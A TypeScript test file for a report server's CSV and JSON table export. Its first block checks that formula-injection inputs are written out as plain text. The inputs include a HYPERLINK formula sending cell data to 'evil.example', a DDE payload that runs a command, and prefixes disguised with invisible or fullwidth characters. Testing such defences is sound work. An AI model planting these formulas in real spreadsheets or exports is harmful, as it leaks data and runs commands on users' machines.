import { beforeAll, describe, expect, test } from 'vitest'
import type { ReportHandler } from '../../../server-handler/report/handler.js'
import { type ExportCell, textOfMarkup, toCsv, toSlug } from '../../../server-handler/report/table-export.js'
import { createReportHandler, openStore } from '../../support/clocked.js'
import { NOW_MS } from '../../support/log-request.js'
import { seedStory } from '../../support/seed-visits.js'

const csvOf = (...cells: ExportCell[]) =>
  toCsv({ slug: 'x', caption: 'x', columns: cells.map((_, i) => `c${i}`), rows: () => [cells] }).split('\r\n')[1]

describe('a table as CSV', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '|calc',
    '%0A=1',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('writes %j as text, not as a formula', (text) => {
    expect(csvOf(text)).toMatch(/^"'/)
  })

  test.each(['/p/:slug', 'TypeError', "it's", '1.5 s', 'a=b', ''])('leaves %j as it is', (text) => {
    expect(csvOf(text)).toBe(`"${text}"`)
  })

  test('writes numbers as numbers, quotes doubled, line breaks within quotes, and nothing as nothing', () => {
    expect(csvOf(-1.5, 'a"b', 'a,b', null, Number.NaN)).toBe('-1.5,"a""b","a,b",,')
  })
})

describe('every table of a page', () => {
  const seed = seedStory({ untilMs: NOW_MS, rangeMs: 20 * 3_600_000, visits: 200 })
  const action = seed.actionIds.at(-1) ?? ''
  const session = JSON.stringify(seed.logs).match(/"session\.id","value":\{"stringValue":"([^"]+)"/)?.[1] ?? ''
  const pages = [
    '?range=24h&device=mobile',
    '/vitals/lcp?by=release',
    '/errors',
    '/errors/ApiError-checkout',
    '/actions',
    `/action/${action}`,
    `/search?q=${session}`,
    `/session/${session}`,
    '/health',
  ]
  let handle: ReportHandler
  const get = (path: string) => handle(new Request(`http://127.0.0.1:4320${path}`))
  beforeAll(async () => {
    const store = await openStore({ path: ':memory:', flushEveryMs: 1, now: () => NOW_MS })
    await store.writeLogs(seed.logs)
    await store.writeTraces(seed.traces)
    handle = createReportHandler({ store, now: () => NOW_MS })
    return () => store.close()
  })

  test.each(pages)('%s can be downloaded in both formats, with all of its rows', async (path) => {
    const page = await (await get(`/report${path}`)).text()
    const links = [...page.matchAll(/href="([^"]+format=(?:csv|json))"/g)].map(([, href = '']) =>
      href.replaceAll('&amp;', '&'),
    )

    expect(links.length).toBe((page.match(/<table/g)?.length ?? 0) * 2)
    expect(new Set(links).size).toBe(links.length)
    for (const link of links) {
      const response = await get(link)
      expect([link, response.status]).toEqual([link, 200])
      expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.(csv|json)"$/)
      const text = await response.text()
      if (link.endsWith('json')) expect(JSON.parse(text).rows.length).toBeGreaterThan(0)
      else expect(text.split('\r\n').length).toBeGreaterThan(2)
    }
  })

  test('has numbers in its base unit, and keeps the filter of its page', async () => {
    const { rows } = (await (await get('/report?device=mobile&table=routes-vitals-at-p75&format=json')).json()) as {
      rows: { Route: string; LCP: number }[]
    }

    expect(rows.find(({ Route }) => Route === '/')?.LCP).toBeGreaterThan(500)
  })

  test('names its tables where an address names none of them', async () => {
    const response = await get('/report/errors?table=nothing&format=csv')

    expect(response.status).toBe(404)
    expect(await response.text()).toContain('errors-by-group')
  })
})

test('a slug has letters, digits and hyphens', () => {
  expect(['Routes, vitals at p75', '</script>', '…'].map(toSlug)).toEqual(['routes-vitals-at-p75', 'script', 'table'])
})

test('the text of a cell is what a reader sees', () => {
  expect(textOfMarkup('<a href="/x?a=1&amp;b">a &lt;b&gt;</a> <span class="sr">(c)</span>')).toBe('a <b> (c)')
})
